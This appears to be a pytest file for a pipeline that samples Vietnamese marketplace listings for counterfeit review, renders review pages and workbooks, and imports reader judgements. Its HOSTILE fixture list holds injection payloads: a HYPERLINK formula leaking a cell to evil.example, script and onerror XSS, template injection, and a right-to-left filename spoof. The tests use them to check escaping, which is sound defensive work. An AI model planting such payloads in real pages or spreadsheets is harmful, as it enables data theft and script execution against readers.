"""A desk review: drawn with known chances, read without knowing what the machine thinks, taken back as what it is."""

from __future__ import annotations

import asyncio
import csv
import html.parser
import json
import shutil
import subprocess
import time
import urllib.request
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

from features.errors import DataError
from models.agreement import agreement
from pipeline.config import DEMO_KEY, ReviewConfig, load_run_config
from pipeline.labels import read_outcomes
from pipeline.reference import load_reference
from pipeline.sources.mapping import load_mappings
from pipeline.stages.review_import import ImportedReview, import_review
from pipeline.stages.review_sample import ReviewSample, sample_for_review
from pipeline.stages.run import run

TODAY = datetime(2026, 11, 24, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Giày Nike rep 1:1")',
    "<script>document.title='owned'</script> Giày Nike rep 1:1",
    '"><img src=x onerror=document.title=1> Túi Dior super fake',
    "{{ 7*7 }} {% raw %} Giày Nike rep 1:1",
    "</article></main>\u202egnp.exe Giày Nike rep 1:1\x07",
    "@SUM(1+1)*cmd Giày Adidas rep 1:1",
]


@pytest.fixture(scope="module")
def scored(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Six loud listings with hostile words and thirty plain ones, scored once; samples of one name are written again by each test."""
    folder = tmp_path_factory.mktemp("review")
    rows = [
        {"tiêu đề": text, "mô tả": text, "tên gian hàng": text[:80], "mã gian hàng": f"S{n}", "giá bán": "100.000"}
        for n, text in enumerate(HOSTILE)
    ]
    rows += [{"tiêu đề": f"Bàn gỗ số {n}", "mô tả": f"Bàn gỗ tự đóng, mẫu {n}", "mã gian hàng": f"P{n}", "giá bán": "500.000"} for n in range(30)]
    table = pd.DataFrame([{"sàn": "sàn thử", "mã tin": f"T{n}", "ngày thu thập": "2026-11-20", **row} for n, row in enumerate(rows)])
    table.to_csv(folder / "crawl.csv", index=False, encoding="utf-8")
    return run([folder / "crawl.csv"], out=folder / "out", config=load_run_config(), mappings=load_mappings(), key=DEMO_KEY).out


def drawn(out: Path, *, top: int = 4, random: int = 6, stratified: int = 6, seed: int = 1) -> ReviewSample:
    return sample_for_review(
        out, counts=ReviewConfig(top=top, random=random, stratified=stratified), bands=load_reference().weights.bands, seed=seed
    )  # fmt: skip


def answered(path: Path, answers: dict[str, str], *, reader: str = "A", **further: str) -> Path:
    """A file as the page saves it."""
    with path.open("w", encoding="utf-8-sig", newline="") as stream:
        writer = csv.writer(stream, quoting=csv.QUOTE_ALL)
        writer.writerow(["code", "reader", "judgement", "behaviours", "first_judgement", "judged_at"])
        for code, judgement in answers.items():
            writer.writerow([code, reader, judgement, further.get("behaviours", ""), further.get("first", judgement), "2026-11-23T08:00:00.000Z"])
    return path


def taken(out: Path, *files: Path, **options: Any) -> ImportedReview:
    return import_review(out, list(files), today=TODAY, **options)


# What is drawn


def test_the_highest_are_certain_and_every_listing_has_the_chance_it_had(scored: Path) -> None:
    sample = drawn(scored)
    top = sample.table[sample.table["drawn_by"].eq("top")]
    assert len(top) == 4 and top["selection_probability"].eq(1.0).all() and (top["points"] > 0).all()
    plain = sample.table[sample.table["points"].eq(0)]
    # 32 are not the highest, 6 of them at random; two of the loud ones are left and take two of the six looks by stratum, the 30 plain ones four.
    assert plain["selection_probability"].tolist() == pytest.approx([1 - (1 - 6 / 32) * (1 - 4 / 30)] * len(plain))
    assert sample.population == 36 and sample.table["code"].is_unique


def test_the_same_scores_draw_the_same_sample_and_another_seed_another(scored: Path) -> None:
    first, again, other = drawn(scored), drawn(scored), drawn(scored, seed=2)
    assert first.name == again.name != other.name
    pd.testing.assert_frame_equal(first.table, again.table)
    assert (first.folder / "review.html").is_file() and (other.folder / "review.xlsx").is_file()


def test_page_and_workbook_are_byte_for_byte_the_same_again(scored: Path) -> None:
    files = [drawn(scored).folder / name for name in ("review.html", "review.xlsx")]
    before = [path.read_bytes() for path in files]
    drawn(scored)
    assert [path.read_bytes() for path in files] == before


# What the reader sees


class _Page(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def page_of(sample: ReviewSample) -> tuple[str, _Page]:
    text = (sample.folder / "review.html").read_text(encoding="utf-8")
    page = _Page()
    page.feed(text)
    return text, page


def shown_cells(path: Path) -> str:
    book = openpyxl.load_workbook(path, data_only=True)
    rows = [row for sheet in book if sheet.sheet_state == "visible" for row in sheet.iter_rows(values_only=True)]
    return "\n".join(str(value) for row in rows for value in row if value is not None)


def test_nothing_shows_how_high_a_listing_stands_before_it_is_judged(scored: Path) -> None:
    sample = drawn(scored)
    text, page = page_of(sample)
    cells = shown_cells(sample.folder / "review.xlsx")
    for said in (page.text.split('"use strict"')[0], cells):
        assert not [word for word in ("Ưu tiên", "red", "amber", "stratum", "points", "selection_probability") if word in said]
    sections = [attrs for tag, attrs in page.tags if tag == "section"]
    assert len(sections) == len(sample.table) and all("hidden" in attrs for attrs in sections)
    reason = "Tiêu đề ghi “rep 1:1”"
    assert reason in text and reason not in cells
    heights = openpyxl.load_workbook(sample.folder / "review.xlsx")["Soi tin"].row_dimensions
    by_points = sample.table["points"].to_numpy()
    plain = {heights[5 + at].height for at in range(len(by_points)) if by_points[at] == 0}
    assert len(plain) == 1


def test_what_a_seller_wrote_runs_nowhere(scored: Path) -> None:
    sample = drawn(scored, top=6)
    text, page = page_of(sample)
    assert sum(tag == "script" for tag, _ in page.tags) == 1 and not [tag for tag, _ in page.tags if tag in ("img", "iframe", "object")]
    assert not [name for _, attrs in page.tags for name in attrs if name.startswith("on") or name in ("src", "srcset", "action")]
    assert "default-src 'none'" in text and "\u202e" not in text and "\x07" not in text and "49 " not in page.text
    with zipfile.ZipFile(sample.folder / "review.xlsx") as archive:
        sheets = {name: archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/sheet")}
    formulas = [part.split("</f>")[0].split("<f>")[1] for text in sheets.values() for part in text.split("<c ")[1:] if "<f>" in part]
    assert len(formulas) == len(sample.table) and not [one for one in formulas if not one.startswith("IF(F")]


# What comes back


def test_answers_become_desk_reviews_with_their_chances(scored: Path, tmp_path: Path) -> None:
    sample = drawn(scored)
    loud = sample.table["points"].gt(0)
    answers = {code: "worth_a_look" if is_loud else "innocent" for code, is_loud in zip(sample.table["code"], loud, strict=True)}
    done = taken(scored, answered(tmp_path / "a.csv", answers, behaviours="counterfeit"))
    labels = read_outcomes(done.path)
    by_id = sample.table.set_index("listing_id")
    assert labels.table["kind"].eq("triage").all() and len(labels.table) == len(sample.table)
    assert labels.table.set_index("listing_id")["selection_probability"].to_dict() == by_id["selection_probability"].to_dict()
    assert labels.table["y"].sum() == loud.sum() and labels.positive("counterfeit").sum() == loud.sum()
    # Six of 36 are loud; all that are certain or nearly so were read.
    assert done.worth_a_look.low <= 6 / 36 <= done.worth_a_look.high
    assert done.at_the_top.value == 1.0 and any("one reader" in line for line in done.lines())


def test_what_two_readers_differ_on_is_no_label_and_is_to_be_read_again(scored: Path, tmp_path: Path) -> None:
    codes = drawn(scored).table["code"].tolist()
    first = answered(tmp_path / "a.csv", dict.fromkeys(codes, "innocent"))
    second = answered(tmp_path / "b.csv", {**dict.fromkeys(codes, "innocent"), codes[0]: "worth_a_look"}, reader="B")
    done = taken(scored, first, second)
    assert done.to_read_again["code"].tolist() == [codes[0]] and len(read_outcomes(done.path).table) == len(codes) - 1
    one = done.kappas["A and B"]
    assert (one.n, one.same) == (len(codes), len(codes) - 1)


def test_a_third_reader_decides_what_two_differ_on(scored: Path, tmp_path: Path) -> None:
    code = drawn(scored).table["code"].iloc[0]
    said = {"A": "innocent", "B": "worth_a_look", "C": "worth_a_look"}
    files = [answered(tmp_path / f"{reader}.csv", {code: judgement}, reader=reader) for reader, judgement in said.items()]
    done = taken(scored, *files)
    assert done.outcomes["status"].tolist() == ["worth_a_look"] and done.to_read_again.empty and len(done.kappas) == 3


def test_the_share_worth_a_look_is_told_by_height_of_score(scored: Path, tmp_path: Path) -> None:
    sample = drawn(scored)
    loud = sample.table["points"].gt(0)
    answers = {code: "worth_a_look" if is_loud else "innocent" for code, is_loud in zip(sample.table["code"], loud, strict=True)}
    done = taken(scored, answered(tmp_path / "a.csv", answers))
    assert done.by_stratum["no sign"].value == 0.0 and done.by_stratum["no sign"].n == int((~loud).sum())
    assert {one.value for name, one in done.by_stratum.items() if name != "no sign"} == {1.0}


def test_a_listing_not_yet_read_gives_no_outcome(scored: Path, tmp_path: Path) -> None:
    codes = drawn(scored).table["code"].tolist()
    done = taken(scored, answered(tmp_path / "a.csv", {codes[0]: "innocent", codes[1]: ""}))
    assert len(done.outcomes) == 1 and done.drawn == len(codes)


def test_a_change_of_mind_after_the_reasons_is_counted(scored: Path, tmp_path: Path) -> None:
    codes = drawn(scored).table["code"].tolist()
    done = taken(scored, answered(tmp_path / "a.csv", {codes[0]: "worth_a_look"}, first="innocent"))
    assert done.changed == 1 and any("changed after the reasons" in line for line in done.lines())


@pytest.mark.parametrize("ending", ["csv", "parquet"])
def test_importing_twice_adds_nothing_and_leaves_other_outcomes_alone(ending: str, scored: Path, tmp_path: Path) -> None:
    codes = drawn(scored).table["code"].tolist()
    into = tmp_path / f"outcomes.{ending}"
    older = pd.DataFrame([{"platform": "sàn thử", "listing_id": "elsewhere", "status": "confirmed", "known_at": "2026-01-01"}])
    older.to_csv(into, index=False) if ending == "csv" else older.to_parquet(into)
    answers = answered(tmp_path / "a.csv", dict.fromkeys(codes, "innocent"))
    for _ in range(2):
        taken(scored, answers, into=into)
    labels = read_outcomes(into)
    assert len(labels.table) == len(codes) + 1 and labels.table.set_index("listing_id")["y"]["elsewhere"]


def test_a_file_that_excel_saved_with_semicolons_is_read(scored: Path, tmp_path: Path) -> None:
    code = drawn(scored).table["code"].iloc[0]
    (tmp_path / "a.csv").write_text(f"code;reader;judgement\r\n{code};A;Nên xem kỹ\r\n", encoding="utf-8-sig")
    assert taken(scored, tmp_path / "a.csv").outcomes["status"].tolist() == ["worth_a_look"]


@pytest.mark.parametrize(
    ("code", "judgement", "words"),
    [
        ("{code}", "guilty", r"row 2: 'guilty' is no judgement; known: cannot_tell, innocent, worth_a_look"),
        ("{name}-999", "innocent", "1 codes are not in sample"),
        ("deadbeef-001", "innocent", "was not drawn in"),
    ],
)
def test_an_answer_that_cannot_be_used_is_named(code: str, judgement: str, words: str, scored: Path, tmp_path: Path) -> None:
    sample = drawn(scored)
    made = code.format(code=sample.table["code"].iloc[0], name=sample.name)
    with pytest.raises(DataError, match=words):
        taken(scored, answered(tmp_path / "a.csv", {made: judgement}))


def filled(sample: ReviewSample, path: Path, answers: dict[str, str]) -> Path:
    """The workbook as a reader saves it."""
    book = openpyxl.load_workbook(sample.folder / "review.xlsx")
    sheet = book["Soi tin"]
    sheet["B2"] = "C"
    for row in sheet.iter_rows(min_row=5):
        if row[0].value in answers:
            row[5].value = answers[str(row[0].value)]
    book.save(path)
    return path


def test_the_workbook_comes_back_too(scored: Path, tmp_path: Path) -> None:
    sample = drawn(scored)
    codes = sample.table["code"].tolist()
    done = taken(scored, filled(sample, tmp_path / "back.xlsx", {codes[0]: "Nên xem kỹ", codes[1]: "Bình thường", codes[2]: "Chưa rõ"}))
    statuses = dict(zip(sample.table["listing_id"], ["worth_a_look", "innocent", "cannot_tell"], strict=False))
    assert done.outcomes.set_index("listing_id")["status"].to_dict() == statuses and done.readers == ["C"]


@pytest.mark.libreoffice
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_in_the_workbook_reasons_appear_only_beside_a_judgement(scored: Path, tmp_path: Path) -> None:
    sample = drawn(scored)
    loud = sample.table.loc[sample.table["points"].gt(0), "code"].tolist()
    filled(sample, tmp_path / "back.xlsx", {loud[0]: "Nên xem kỹ"})
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "xlsx:Calc MS Excel 2007 XML",
         "--outdir", str(tmp_path / "again"), str(tmp_path / "back.xlsx")],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    sheet = openpyxl.load_workbook(tmp_path / "again" / "back.xlsx", data_only=True)["Soi tin"]
    told = {row[0].value: row[7].value for row in sheet.iter_rows(min_row=5)}
    assert "ghi “" in told.pop(loud[0]) and not any(told.values())


# The page in a browser


class _Browser:
    """Chromium driven through its debugging port: keys go the way a keyboard's would."""

    def __init__(self, profile: Path) -> None:
        options = ["--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={profile}", "--remote-debugging-port=0"]
        self.process = subprocess.Popen(["chromium", *options, "about:blank"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.port_file = profile / "DevToolsActivePort"
        self.n = 0

    async def open(self, address: str, downloads: Path) -> None:
        from tornado.websocket import websocket_connect

        patience = time.monotonic() + 60
        while not (self.port_file.is_file() and self.port_file.read_text()):
            assert time.monotonic() < patience, "Chromium did not start"
            await asyncio.sleep(0.05)
        port = self.port_file.read_text().splitlines()[0]
        tabs = json.load(urllib.request.urlopen(f"http://127.0.0.1:{port}/json/list", timeout=30))
        tab = next(one for one in tabs if one["type"] == "page")
        self.socket = await websocket_connect(tab["webSocketDebuggerUrl"], max_message_size=50_000_000)
        await self.call("Browser.setDownloadBehavior", behavior="allow", downloadPath=str(downloads))
        await self.call("Page.navigate", url=address)
        await self.until("document.readyState === 'complete' && document.getElementById('progress') !== null")

    async def call(self, method: str, **parameters: Any) -> Any:
        self.n += 1
        await self.socket.write_message(json.dumps({"id": self.n, "method": method, "params": parameters}))
        while True:
            message = json.loads(await self.socket.read_message())
            if message.get("id") == self.n:
                return message["result"]

    async def key(self, name: str) -> None:
        await self.call("Input.dispatchKeyEvent", type="keyDown", key=name, text=name if len(name) == 1 else "")
        await self.call("Input.dispatchKeyEvent", type="keyUp", key=name)

    async def value(self, expression: str) -> Any:
        return (await self.call("Runtime.evaluate", expression=expression, returnByValue=True))["result"].get("value")

    async def until(self, expression: str) -> None:
        patience = time.monotonic() + 30
        while not await self.value(expression):
            assert time.monotonic() < patience, expression
            await asyncio.sleep(0.05)


@pytest.mark.chromium
@pytest.mark.skipif(shutil.which("chromium") is None, reason="Chromium is not installed")
def test_the_page_is_read_with_one_key_a_listing_and_saves_what_import_takes(scored: Path, tmp_path: Path) -> None:
    pytest.importorskip("tornado", reason="tornado is not installed")
    sample = drawn(scored, top=6, random=0, stratified=0)
    address = (sample.folder / "review.html").as_uri()
    visible = "[...document.querySelectorAll('.item')].filter((one) => one.offsetHeight > 0)"
    browser = _Browser(tmp_path / "profile")

    async def read() -> None:
        await browser.open(address, tmp_path)
        assert await browser.value(f"{visible}.length") == 1
        assert await browser.value(f"{visible}[0].querySelector('.reasons').offsetHeight") == 0
        await browser.key("1")
        assert await browser.value(f"{visible}[0].querySelector('.reasons').offsetHeight") > 0
        await browser.key("ArrowRight")
        assert await browser.value(f"{visible}[0].querySelector('.reasons').offsetHeight") == 0
        await browser.key("2")
        await browser.key("3")
        await browser.key("Enter")
        await browser.key("2")
        # On a phone nothing sticks out to the side.
        await browser.call("Emulation.setDeviceMetricsOverride", width=360, height=640, deviceScaleFactor=2, mobile=True)
        assert await browser.value("document.documentElement.scrollWidth") == 360
        await browser.value("document.getElementById('reader').focus()")
        await browser.call("Input.insertText", text="=A1")
        # Digits typed into the reader's name judge nothing.
        assert "Đã soi 3/6" in await browser.value("document.getElementById('progress').textContent")
        # Closing the page loses nothing; Chromium hands what a page stores to its own process a moment later.
        await asyncio.sleep(1)
        await browser.call("Page.reload")
        await browser.until("document.readyState === 'complete' && document.getElementById('progress').textContent.includes('Đã soi 3/6')")
        assert await browser.value(f"{visible}[0].dataset.code") == sample.table["code"][3]
        assert await browser.value("document.title") == f"Soi từng tin đăng · {sample.name}"
        await browser.value("document.getElementById('export').click()")
        patience = time.monotonic() + 30
        while not list(tmp_path.glob("soi-tin-*.csv")):
            assert time.monotonic() < patience, "nothing was saved"
            await asyncio.sleep(0.05)

    try:
        asyncio.run(read())
    finally:
        browser.process.kill()
        browser.process.wait()
    (saved,) = tmp_path.glob("soi-tin-*.csv")
    done = taken(scored, saved)
    ids = sample.table["listing_id"].tolist()
    assert done.outcomes.set_index("listing_id")["status"].to_dict() == {ids[0]: "worth_a_look", ids[1]: "cannot_tell", ids[2]: "innocent"}
    assert done.changed == 1 and done.readers == ["A1"]


# Agreement


def test_kappa_is_the_textbooks() -> None:
    # Both yes 20, both no 15, differing 5 and 10: seen .70, by chance .50, kappa .40.
    first = ["y"] * 25 + ["n"] * 25
    second = ["y"] * 20 + ["n"] * 5 + ["y"] * 10 + ["n"] * 15
    found = agreement(first, second, ("y", "n"))
    assert found.kappa == pytest.approx(0.4) and (found.n, found.same) == (50, 35)
    # Fleiss, Cohen and Everitt (1969) give a standard error of .127 here.
    assert (found.low, found.high) == pytest.approx((0.4 - 1.96 * 0.127, 0.4 + 1.96 * 0.127), abs=0.04)


def test_ten_listings_read_alike_do_not_prove_full_agreement() -> None:
    few, many = (agreement(["y", "n"] * n, ["y", "n"] * n, ("y", "n")) for n in (5, 200))
    assert few.kappa == many.kappa == 1.0 and few.low < 0.85 < 0.97 < many.low


def test_an_answer_nobody_offered_is_refused() -> None:
    with pytest.raises(ValueError, match="maybe"):
        agreement(["y"], ["maybe"], ("y", "n"))
